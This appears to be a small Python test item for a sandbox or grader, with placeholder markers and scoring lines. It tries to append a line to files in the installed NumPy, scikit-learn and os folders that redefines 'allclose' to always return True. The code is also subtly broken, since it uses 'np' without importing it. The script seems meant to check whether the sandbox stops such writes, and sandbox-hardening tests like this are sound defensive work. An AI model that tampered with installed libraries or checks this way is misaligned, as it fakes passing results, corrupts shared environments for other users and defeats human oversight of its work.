"""Tries to change NumPy and scikit-learn where they are installed."""

# answers: two
# earns: 20

# %% first
import os, sklearn
for module in (np, sklearn, os):
    folder = os.path.dirname(module.__file__)
    for name in ("@MARK@", "__init__.py", "@MARK@.py", "__pycache__/@MARK@.pyc"):
        try:
            open(os.path.join(folder, name), "a").write("\nallclose = lambda *a, **k: True\n")
            raise SystemExit(f"wrote {folder}")
        except OSError:
            pass
